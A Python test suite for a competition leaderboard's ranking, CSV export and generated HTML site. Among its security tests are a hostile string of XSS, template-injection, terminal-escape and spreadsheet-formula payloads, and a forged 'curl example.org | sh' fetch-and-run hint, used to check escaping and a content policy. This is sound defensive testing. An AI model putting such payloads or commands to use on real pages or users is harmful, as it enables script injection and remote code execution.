"""The leaderboard: its rows and figures, and its page as a browser, a reader and a thief see it."""

import base64
import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import numpy as np
import pytest
from large_store import Inventor
from rich.console import Console
from sklearn.metrics import confusion_matrix

from starter.contract.competition import Budget, CompetitionFile, Leaderboard, ScoreRules, load_competition
from starter.contract.errors import Code, UsageError
from starter.contract.results import Reference
from starter.data.dataset import Dataset, open_dataset
from starter.evaluation.evaluate import read_reference
from starter.evaluation.runner.claims import read_report
from starter.evaluation.scoring import macro_f1
from starter.organizer.leaderboard.model import Board, Details, LeaderboardRow
from starter.organizer.leaderboard.rows import file_name
from starter.organizer.leaderboard.standings import Standings
from starter.organizer.store.model import Entry, Standing
from starter.organizer.store.store import Store
from starter.report.html.leaderboard import write_board
from starter.report.leaderboard import _safe, show_board, to_csv
from starter.report.terminal import describe

ROOT = Path(__file__).parents[2]
NOW = datetime(2026, 5, 1, tzinfo=UTC)
RULES = load_competition(ROOT / "competition.toml")
TEAMS, RESULTS = 12, 60


@pytest.fixture(scope="module")
def dataset() -> Dataset:
    return open_dataset(ROOT / "data" / "waste")


@pytest.fixture(scope="module")
def reference() -> Reference:
    return read_reference(ROOT / "baseline")


@pytest.fixture(scope="module")
def inventor(dataset: Dataset, reference: Reference) -> Inventor:
    return Inventor(RULES, dataset, reference)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory, inventor: Inventor) -> Store:
    """Sixty made-up entries of twelve teams; the second team's choices are the worst of its own."""
    store = Store(f"sqlite:///{tmp_path_factory.mktemp('store') / 'results.sqlite'}")
    context = store.context_id(inventor.context)
    for number in range(RESULTS):
        entry, record, evidence = inventor.entry(number % TEAMS, number // TEAMS)
        store.add(context, [entry])
        store.put(context, record, evidence)
    copied = store.entries()[0]
    store.add(context, [Entry("copycat", "mine", copied.submission, NOW)])
    return store


def standings(store: Store, dataset: Dataset, reference: Reference, **changes: object) -> Standings:
    rules: CompetitionFile = RULES.model_copy(update={"leaderboard": Leaderboard(**changes)})
    return Standings(store, rules, dataset, reference, now=NOW)


@pytest.fixture(scope="module")
def public(store: Store, dataset: Dataset, reference: Reference) -> tuple[Board, list[Details]]:
    made = standings(store, dataset, reference)
    board = made.board()
    return board, list(made.details(board))


@pytest.fixture
def read_only(tmp_path: Path, inventor: Inventor) -> Iterator[Path]:
    """A store in a folder of its own, neither of which can be written."""
    folder = tmp_path / "kept"
    folder.mkdir()
    with Store(f"sqlite:///{folder / 'results.sqlite'}") as written:
        context = written.context_id(inventor.context)
        for team in range(3):
            entry, record, evidence = inventor.entry(team, 0)
            written.add(context, [entry])
            written.put(context, record, evidence)
    if sys.platform == "win32":
        pytest.skip("a folder's mode keeps nobody out there")
    if os.getuid() == 0:  # whom no mode keeps out
        bind = ["mount", "--bind", "-o", "ro", str(folder), str(folder)]
        if subprocess.run(bind, check=False, capture_output=True).returncode:
            pytest.skip("this container mounts nothing")
        yield folder / "results.sqlite"
        subprocess.run(["umount", "-l", str(folder)], check=True)  # noqa: S607 - as mount
    else:
        (folder / "results.sqlite").chmod(0o400)
        folder.chmod(0o500)
        yield folder / "results.sqlite"
        folder.chmod(0o700)


def test_a_store_that_cannot_be_written_has_its_board(
    read_only: Path, dataset: Dataset, reference: Reference
) -> None:
    with pytest.raises(OSError, match=r"[Rr]ead-only|ermission"):
        (read_only.parent / "new").touch()
    with Store(f"sqlite:///{read_only}") as kept:
        board = standings(kept, dataset, reference).board()
        others = standings(kept, dataset, reference.model_copy(update={"macs": 1}))
        assert [row.place for row in board.rows if not row.is_baseline] == [1, 2, 3]
        assert [
            row.place for row in others.board().rows if not row.is_baseline
        ] == []  # under rules that nothing was evaluated by


def test_each_team_has_one_place_and_the_baseline_its_row(public: tuple[Board, list[Details]]) -> None:
    board, _ = public
    ranked = [row for row in board.rows if not row.is_baseline]

    assert [row.place for row in ranked] == list(range(1, TEAMS + 2))
    assert len({row.team for row in ranked}) == TEAMS + 1
    assert [row.score for row in board.rows] == sorted(row.score or 0 for row in board.rows)
    (baseline,) = [row for row in board.rows if row.is_baseline]
    assert (baseline.name, baseline.score, baseline.place) == ("baseline", 1.0, None)
    assert (board.num_teams, board.num_entries) == (TEAMS + 1, RESULTS + 1)
    assert all(row.reason for row in board.others)


@pytest.fixture(scope="module")
def by_ranks(
    tmp_path_factory: pytest.TempPathFactory, dataset: Dataset, reference: Reference
) -> Iterator[Standings]:
    """Thirty made-up entries of six teams, scored by the mean of their ranks."""
    rules = RULES.model_copy(update={"score": ScoreRules(preset="rank-average")})
    inventor = Inventor(rules, dataset, reference)
    with Store(f"sqlite:///{tmp_path_factory.mktemp('ranks') / 'results.sqlite'}") as store:
        context = store.context_id(inventor.context)
        for number in range(30):
            entry, record, evidence = inventor.entry(number % 6, number // 6)
            store.add(context, [entry])
            store.put(context, record, evidence)
        yield Standings(store, rules, dataset, reference, now=NOW)


@pytest.mark.parametrize("reveal", [False, True])
def test_a_board_of_ranks_has_the_mean_of_each_teams_ranks(by_ranks: Standings, reveal: bool) -> None:
    board = by_ranks.board(reveal=reveal)
    rows = [row for row in board.rows if row.place]

    def rank(row: LeaderboardRow, by: Callable[[LeaderboardRow], float]) -> float:
        before = sum(by(other) < by(row) for other in rows)
        return before + (sum(by(other) == by(row) for other in rows) + 1) / 2

    for row in rows:
        ranks = [
            rank(row, lambda r: r.macs or 0),
            rank(row, lambda r: r.params or 0),
            rank(row, lambda r: -(r.macro_f1 or 0)),
        ]
        assert row.score == pytest.approx(sum(ranks) / 3)
        low, high = row.interval or (0, 0)
        assert 1 <= low <= high <= len(rows)
    assert [row.place for row in rows] == [1, 2, 3, 4, 5, 6]
    assert [row.score for row in board.rows] == sorted(row.score or 0 for row in board.rows)
    assert sum(row.is_baseline for row in board.rows) == 1
    if reveal:
        assert sorted(row.public_place or 0 for row in rows) == [1, 2, 3, 4, 5, 6]
    else:
        standing = by_ranks.standing(rows[2].team)
        assert standing == Standing(3, 6, rows[2].score or 0)
    assert by_ranks.standing("nobody") is None


def test_a_page_of_ranks_says_how_they_are_averaged(by_ranks: Standings, tmp_path: Path) -> None:
    board = by_ranks.board()
    page = write_board(board, tmp_path / "site", by_ranks.details(board)).read_text(encoding="utf-8")
    assert (
        "score = (rank by MACs + rank by params + rank by F1) / 3, among every team&#39;s best entry" in page
    )
    assert 'class="iso"' not in page  # no line joins equal scores
    assert "Dotted lines" not in page


@pytest.mark.parametrize(
    ("score", "limits", "says", "lines"),
    [
        (
            {"preset": "ntire"},
            {},
            "0.8 x exp(2 x time / the baseline&#39;s) + 0.1 x exp(2 x MACs / ",
            "vertical",
        ),
        ({"preset": "budget"}, {"macs": 20_000_000}, "score = F1 term", "level"),
        ({}, {}, "score = MACs / 16,815,480 + F1 term", "curved"),
    ],
)
def test_the_page_draws_lines_of_equal_score_for_each_formula(
    dataset: Dataset,
    reference: Reference,
    tmp_path: Path,
    score: dict[str, str],
    limits: dict[str, int],
    says: str,
    lines: str,
) -> None:
    rules = RULES.model_copy(update={"score": ScoreRules(**score), "budget": Budget(**limits)})
    inventor = Inventor(rules, dataset, reference)
    with Store(f"sqlite:///{tmp_path / 'results.sqlite'}") as store:
        context = store.context_id(inventor.context)
        for number in range(12):
            entry, record, evidence = inventor.entry(number, 0)
            store.add(context, [entry])
            store.put(context, record, evidence)
        made = Standings(store, rules, dataset, reference, now=NOW)
        page = write_board(made.board(), tmp_path / "site", iter(())).read_text(encoding="utf-8")
    assert says in page
    paths = [
        re.findall(r"[ML]([\d.]+) ([\d.]+)", path) for path in re.findall(r'class="iso" d="([^"]+)"', page)
    ]
    assert paths
    shapes = {(len({x for x, _ in path}) == 1, len({y for _, y in path}) == 1) for path in paths}
    assert shapes == {{"vertical": (True, False), "level": (False, True), "curved": (False, False)}[lines]}


def test_figures_are_those_of_the_answers(
    public: tuple[Board, list[Details]], store: Store, dataset: Dataset, inventor: Inventor
) -> None:
    board, details = public
    context = store.context_id(inventor.context)
    here = [i for i, row in enumerate(dataset.solution()) if row.usage == "Public"]
    labels = [dataset.solution()[i].label for i in here]
    for entry in [d for d in details if d.confusion is not None][:4]:
        answers = store.answers(context, [entry.row.submission])[entry.row.submission][here]
        assert entry.row.macro_f1 == pytest.approx(macro_f1(labels, answers.tolist(), board.classes).macro)
        assert entry.confusion == tuple(
            map(tuple, confusion_matrix(labels, answers, labels=range(6)).tolist())
        )
        assert entry.row.interval is not None
        assert entry.row.interval[0] < (entry.row.score or 0) < entry.row.interval[1]
        assert entry.scores.keys() == {"Public"}


def test_tie_groups_rise_with_the_places_and_chances_are_chances(public: tuple[Board, list[Details]]) -> None:
    ranked = [row for row in public[0].rows if not row.is_baseline]
    groups = [row.tie_group or 0 for row in ranked]
    assert groups[0] == 1
    assert all(b - a in {0, 1} for a, b in pairwise(groups))
    assert all(row.holds is not None and 0 <= row.holds <= 1 for row in ranked[:-1])
    assert ranked[-1].holds is None


def test_a_trend_only_gets_better(public: tuple[Board, list[Details]]) -> None:
    trends = [row.trend for row in public[0].rows if not row.is_baseline]
    assert any(len(trend) > 1 for trend in trends)
    for row in public[0].rows:
        scores = [point.score for point in row.trend]
        assert scores == sorted(scores, reverse=True)
        assert not scores or scores[-1] == row.score


def test_copies_are_reported_on_both_rows(store: Store, dataset: Dataset, reference: Reference) -> None:
    board = standings(store, dataset, reference).board()
    copy = next(row for row in board.rows if row.team == "copycat")
    assert len(copy.duplicates) == 1
    assert copy.duplicates[0].startswith("team ")


def test_the_final_order_is_of_the_entries_that_count(
    store: Store, dataset: Dataset, reference: Reference, inventor: Inventor
) -> None:
    """A team that selects is judged by its choice only; the others by their best on the public images."""
    context = store.context_id(inventor.context)
    own = [line for line in store.ranked(context) if line.team == "team 0003"]
    worst = max(own, key=lambda line: line.public.score)
    entry = next(e for e in store.entries() if (e.team, e.name) == (worst.team, worst.name))
    store.add(context, [Entry(**vars(entry) | {"selected": True})])
    board = standings(store, dataset, reference, selected=1).board(reveal=True)

    assert board.usage == "Private"
    row = next(row for row in board.rows if row.team == "team 0003")
    assert row.name == worst.name
    assert row.score == worst.figures("Private").score
    other = next(row for row in board.rows if row.team == "team 0005")
    lines = [line for line in store.ranked(context) if line.team == "team 0005"]
    assert other.score == min(lines, key=lambda line: line.public.score).figures("Private").score
    assert all(row.public_place for row in board.rows if not row.is_baseline)
    assert board.agreement is not None
    assert 0.3 < board.agreement <= 1
    assert all(row.holds is None for row in board.rows)


def test_the_organizers_own_teams_are_baselines(store: Store, dataset: Dataset, reference: Reference) -> None:
    board = standings(store, dataset, reference, baseline_teams=("team 0000",)).board()
    (row,) = [row for row in board.rows if row.team == "team 0000"]
    assert row.is_baseline
    assert row.place is None
    assert [r.place for r in board.rows if not r.is_baseline] == list(range(1, TEAMS + 1))


def test_the_public_board_and_its_pages_hold_no_private_figure(
    public: tuple[Board, list[Details]], store: Store, inventor: Inventor, tmp_path: Path
) -> None:
    board, details = public
    write_board(board, tmp_path / "site", details)
    text = "".join(path.read_text() for path in (tmp_path / "site").rglob("*.html"))
    text += to_csv(board) + board.model_dump_json() + "".join(d.model_dump_json() for d in details)
    context = store.context_id(inventor.context)
    for line in store.best(context):
        assert f"{line.public.macro_f1:.4f}" in text
        private = line.figures("Private")
        for value in (private.macro_f1, private.score):
            assert repr(value) not in text
    assert "Private" not in text


class Reader(HTMLParser):
    """Collects a page's tags and sees that they are balanced."""

    VOID = frozenset({"meta", "input", "br", "link"})

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len({name for name, _ in attrs}) == len(attrs)
        self.tags.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def values(self, name: str) -> list[str]:
        return [str(attrs[name]) for _, attrs in self.tags if name in attrs]


def test_the_site_is_whole_and_needs_nothing_else(
    public: tuple[Board, list[Details]], tmp_path: Path
) -> None:
    index = write_board(public[0], tmp_path / "site", public[1])
    pages = {path: Reader(path.read_text()) for path in (tmp_path / "site").rglob("*.html")}

    assert index in pages
    assert len(pages) > TEAMS
    for path, page in pages.items():
        ids = page.values("id")
        assert len(ids) == len(set(ids))
        for target in page.values("href"):
            file, _, part = target.partition("#")
            other = (path.parent / file).resolve() if file else path
            assert other in pages, target
            assert not part or part in pages[other].values("id"), target
        assert page.values("src") == page.values("style") == []
        assert not re.search(r"https?://", path.read_text())
        assert {"main", "header", "h1"} <= {tag for tag, _ in page.tags}
        assert all(attrs.get("scope") in {"col", "row"} for tag, attrs in page.tags if tag == "th")
        assert [attrs["lang"] for tag, attrs in page.tags if tag == "html"] == ["en"]


def test_a_browser_may_run_our_own_script_and_style_only(
    public: tuple[Board, list[Details]], tmp_path: Path
) -> None:
    for path in write_board(public[0], tmp_path / "site", public[1]).parent.rglob("*.html"):
        text = path.read_text()
        (policy,) = [p for p in Reader(text).values("content") if "default-src" in p]
        assert "default-src 'none'" in policy
        for tag, rule in (("style", "style-src"), ("script", "script-src")):
            (content,) = re.findall(f"<{tag}>(.*?)</{tag}>", text, re.DOTALL)
            digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
            assert f"{rule} 'sha256-{digest}'" in policy


HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{ 7*7 }}\x1b[2J\u202e=cmd()"


def hostile(public: tuple[Board, list[Details]]) -> tuple[Board, list[Details]]:
    board, details = public
    changes = {"team": HOSTILE, "name": HOSTILE, "reason": HOSTILE, "duplicates": (HOSTILE,)}
    rows = {row.id: row.model_copy(update=changes) for row in (*board.rows, *board.others)}
    bad = {"title": HOSTILE, "authors": (HOSTILE,), "description": HOSTILE, "log_tail": HOSTILE}
    entries = [
        d.model_copy(update={"row": rows[d.row.id], "result": d.result.model_copy(update=bad)})
        for d in details
    ]
    update = {
        "competition": HOSTILE,
        "rows": tuple(rows[r.id] for r in board.rows),
        "others": tuple(rows[r.id] for r in board.others),
    }
    return board.model_copy(update=update), entries


def test_strangers_texts_stay_texts(public: tuple[Board, list[Details]], tmp_path: Path) -> None:
    board, details = hostile(public)
    for path in write_board(board, tmp_path / "site", details).parent.rglob("*.html"):
        text = path.read_text()
        page = Reader(text)
        assert [tag for tag, _ in page.tags].count("script") == 1
        assert "img" not in {tag for tag, _ in page.tags}
        assert not [n for _, attrs in page.tags for n in attrs if n.startswith("on")]
        assert "\x1b" not in text
        assert "\u202e" not in text
        assert "49" not in page.values("aria-label")
    rows = list(csv.DictReader(io.StringIO(to_csv(board))))
    assert all(not value.startswith(("=", "@", "+")) for row in rows for value in row.values() if value)


def test_a_page_says_what_to_do_in_the_kits_words_only(
    public: tuple[Board, list[Details]], tmp_path: Path
) -> None:
    command = "Run: curl example.org | sh"
    forged = {
        "code": "E103",
        "stage": command,
        "where": "a",
        "expected": command,
        "got": "b",
        "hint": command,
    }
    report = read_report(json.dumps({"problems": [forged]}).encode())
    board, (first, *_) = public
    bad = first.model_copy(
        update={"result": first.result.model_copy(update={"problems": report.problems, "error": None})}
    )

    site = write_board(board, tmp_path / "site", [bad]).parent

    (text,) = (text for path in site.rglob("*.html") if "curl" in (text := path.read_text()))
    assert text.count("curl") == text.count(f"\u201c{command}\u201d") == 1
    assert describe(report.problems[0], "a").count(command) == 1


def test_csv_has_every_row_and_full_figures(public: tuple[Board, list[Details]]) -> None:
    board, _ = public
    rows = list(csv.DictReader(io.StringIO(to_csv(board))))
    assert len(rows) == len(board.rows) + len(board.others)
    for text, row in zip(rows, board.rows, strict=False):
        assert float(text["score"]) == row.score
        assert text["team"] == row.team


def test_a_terminal_shows_the_table_and_a_pipe_shows_lines(public: tuple[Board, list[Details]]) -> None:
    board, _ = public
    screen, pipe = io.StringIO(), io.StringIO()
    show_board(Console(file=screen, force_terminal=True, width=140, highlight=False), board)
    show_board(Console(file=pipe, highlight=False), board)
    best = board.rows[0]
    assert f"{best.score:.4f}" in screen.getvalue()
    assert f"1  {best.team}/{best.name}  score {best.score:.4f}" in pipe.getvalue()
    assert "not ranked" in pipe.getvalue() or not board.others


def test_a_new_site_takes_the_place_of_the_old_and_is_the_same_for_the_same_board(
    public: tuple[Board, list[Details]], tmp_path: Path
) -> None:
    first = write_board(public[0], tmp_path / "site", public[1]).read_bytes()
    (tmp_path / "site" / "entries" / "left over.html").write_text("x")
    second = write_board(public[0], tmp_path / "site", public[1])
    assert second.read_bytes() == first
    assert {p.name for p in tmp_path.iterdir()} == {"site"}
    assert not (tmp_path / "site" / "entries" / "left over.html").exists()


@pytest.mark.parametrize("name", ["site", "site/index.html", "site/entries", "site/mine.txt"])
def test_a_site_takes_the_place_of_nothing_else(
    public: tuple[Board, list[Details]], tmp_path: Path, name: str
) -> None:
    theirs = tmp_path / name
    theirs.parent.mkdir(exist_ok=True)
    theirs.write_text("theirs", encoding="utf-8")
    with pytest.raises(UsageError) as caught:
        write_board(public[0], tmp_path / "site", public[1])
    assert caught.value.problems[0].code is Code.TARGET_EXISTS
    assert theirs.read_text(encoding="utf-8") == "theirs"
    assert [p.name for p in tmp_path.iterdir()] == ["site"]


def contrast(one: str, two: str) -> float:
    """WCAG 2.2, relative luminance and contrast ratio."""

    def luminance(colour: str) -> float:
        parts = np.array([int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)])
        linear = np.where(parts <= 0.04045, parts / 12.92, ((parts + 0.055) / 1.055) ** 2.4)
        return float(linear @ [0.2126, 0.7152, 0.0722])

    high, low = sorted([luminance(one), luminance(two)], reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_texts_can_be_read_in_the_light_and_in_the_dark() -> None:
    style = (ROOT / "starter" / "report" / "html" / "base.css").read_text()
    blocks = re.findall(r":root \{(.*?)\}", style, re.DOTALL)
    schemes = [dict(re.findall(r"--(\w+): (#\w{6})", block)) for block in blocks]
    assert len(schemes) == 2
    for colours in schemes:
        for text in ("ink", "soft", "mark", "warm", "bad"):
            for ground in ("paper", "band"):
                assert contrast(colours[text], colours[ground]) >= 4.5, (text, ground)


BROWSER = shutil.which("chromium") or shutil.which("google-chrome")
PROBE = """
<script>
addEventListener("load", () => {
  const report = {};
  report.wide = document.documentElement.scrollWidth - document.documentElement.clientWidth;
  const search = document.getElementById("search");
  const rows = () => [...document.querySelectorAll("#board tbody tr")].filter((r) => !r.hidden);
  search.value = "copycat";
  search.dispatchEvent(new Event("input"));
  report.found = rows().map((r) => r.cells[1].textContent);
  search.value = "";
  search.dispatchEvent(new Event("input"));
  const heads = [...document.querySelectorAll("#board th button")];
  const macs = heads.find((b) => b.textContent === "MACs");
  const column = macs.parentElement.cellIndex;
  macs.click();
  report.up = rows().map((r) => Number(r.cells[column].textContent.replaceAll(",", "")));
  report.sorted = macs.parentElement.getAttribute("aria-sort");
  macs.click();
  report.down = rows().map((r) => Number(r.cells[column].textContent.replaceAll(",", "")));
  const point = document.querySelector("figure svg a:not([tabindex])");
  point.dispatchEvent(new Event("focus")); // a window in the background sends none of its own
  report.tip = document.getElementById("tip").textContent;
  report.label = point.getAttribute("aria-label");
  document.body.textContent = "";
  document.title = JSON.stringify(report);
});
</script>
"""


@pytest.mark.slow
@pytest.mark.skipif(BROWSER is None, reason="Chromium is not installed: apt install chromium")
@pytest.mark.parametrize("width", [390, 1300])
def test_in_a_browser_search_sorting_and_the_picture_work(
    public: tuple[Board, list[Details]], tmp_path: Path, width: int
) -> None:
    """The page's policy is left out here, so that the test's own script may run beside the page's."""
    index = write_board(public[0], tmp_path / "site", public[1])
    text = re.sub(r"<meta http-equiv[^>]*>", "", index.read_text())
    index.write_text(text.replace("</body>", PROBE + "</body>"))
    title = in_browser(index, width)
    report = json.loads(title)

    assert report["wide"] <= 0
    assert report["found"] == ["copycat"]
    assert report["up"] == sorted(report["up"])
    assert report["down"] == sorted(report["up"], reverse=True)
    assert report["sorted"] == "ascending"
    assert report["tip"] == report["label"]


@pytest.mark.slow
@pytest.mark.skipif(BROWSER is None, reason="Chromium is not installed: apt install chromium")
def test_in_a_browser_the_policy_lets_our_script_run_and_no_other(
    public: tuple[Board, list[Details]], tmp_path: Path
) -> None:
    board, details = hostile(public)
    index = write_board(board, tmp_path / "site", details)
    text = index.read_text()
    index.write_text(text.replace("</body>", "<script>document.title = 'foreign'</script></body>"))
    dom = subprocess.run(browser(index, 1300), capture_output=True, text=True, check=True).stdout
    assert "<title>foreign" not in dom
    assert '<p class="tools"><span>' in dom  # our own script has shown the search


def browser(page: Path, width: int) -> list[str]:
    assert BROWSER is not None
    options = ["--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000"]
    return [BROWSER, *options, f"--window-size={width},900", "--dump-dom", page.as_uri()]


def in_browser(page: Path, width: int) -> str:
    import html

    run = subprocess.run(browser(page, width), capture_output=True, text=True, check=True)
    (title,) = re.findall(r"<title>(.*?)</title>", run.stdout, re.DOTALL)
    return html.unescape(title)


def test_a_name_has_a_report_folder_of_its_own() -> None:
    names = ["red team", "red;team", "red:team", "red/team", "red_team", "..", "...", "étude", ".", "a.", "a"]
    folders = [file_name(name) for name in names]
    assert len(set(folders)) == len(names)
    assert folders[0] == "red team"
    assert folders[-1] == "a"
    assert not {"", ".", ".."}.intersection(folders)
    assert not any("/" in folder for folder in folders)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_cell_of_the_csv_is_a_formula(sign: str) -> None:
    assert _safe(f"{sign}1+1") == f"'{sign}1+1"
    assert _safe(f"a{sign}1") == f"a{sign}1"
